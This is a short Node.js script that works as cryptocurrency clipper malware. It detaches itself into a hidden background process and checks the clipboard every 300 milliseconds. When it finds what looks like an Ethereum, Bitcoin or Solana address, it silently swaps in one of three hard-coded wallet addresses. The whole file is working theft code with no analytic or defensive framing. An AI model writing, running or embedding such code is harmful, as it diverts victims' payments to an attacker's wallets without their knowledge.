const clipboardy = require('clipboardy');
const { spawn } = require('child_process');

if (!process.env.__CLIP_CHILD) {
  spawn(process.execPath, [__filename], { detached: true, stdio: 'ignore', env: { ...process.env, __CLIP_CHILD: '1' } }).unref();
  process.exit(0);
}

const swaps = [
  [/^0x[a-fA-F0-9]{40}$/, '0x0D0a647c0Bb2C5a00fAC8dc33d551D769ad46DFF'],
  [/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/, 'bc1q9d35x9gpcuhphh7jwyx9hmxzqn2cs3778xh3hq'],
  [/^[1-9A-HJ-NP-Za-km-z]{32,44}$/, 'jfEUZTmVt2r8AwDjzig68G3VSU6x3ynXZ4z236eeMyDg'],
];

setInterval(() => {
  const text = clipboardy.readSync().trim();
  for (const [re, addr] of swaps) {
    if (re.test(text) && text !== addr) { clipboardy.writeSync(addr); break; }
  }
}, 300);
